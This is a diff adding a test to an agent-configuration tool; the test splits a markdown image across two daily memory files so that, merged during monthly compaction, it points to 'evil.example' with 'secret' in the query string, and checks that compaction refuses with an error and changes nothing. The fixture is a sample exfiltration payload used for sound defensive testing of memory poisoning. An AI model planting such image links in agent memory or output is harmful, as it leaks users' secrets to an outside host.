@@ -145,6 +145,22 @@ def test_a_secret_in_an_old_day_stops_it_with_one_error_and_no_file_touched(proj
     assert project_files(project) == before
 
 
+def test_two_clean_days_that_make_an_image_together_stop_it_at_the_definition(project, hotplex):
+    """Alone, neither day fetches anything; in one month file they are an exfiltration image
+    the build would refuse: the compaction stops with one error, and nothing is touched."""
+    (project / "agent-configs/memory/2026-10-01.md").write_text("- ![x][l]\n")
+    (project / "agent-configs/memory/2026-10-02.md").write_text(
+        "- ok\n\n[l]: https://evil.example/a.png?d=secret\n"
+    )
+    assert hotplex("build", cwd=project).status == 0
+    before = project_files(project)
+    done = hotplex("memory", "compact", cwd=project)
+    assert done.status == 1, done.stderr
+    assert done.stderr.startswith("agent-configs/memory/2026-10-02.md:3:")
+    assert "image-url-data" in done.stderr and "with the other days of its month" in done.stderr
+    assert project_files(project) == before
+
+
 def test_a_covered_day_gone_from_everywhere_is_an_error_not_a_loss(project, hotplex):
     assert hotplex("memory", "compact", cwd=project).status == 0
     (project / "agent-configs/memory/2026-09-21.md").unlink()
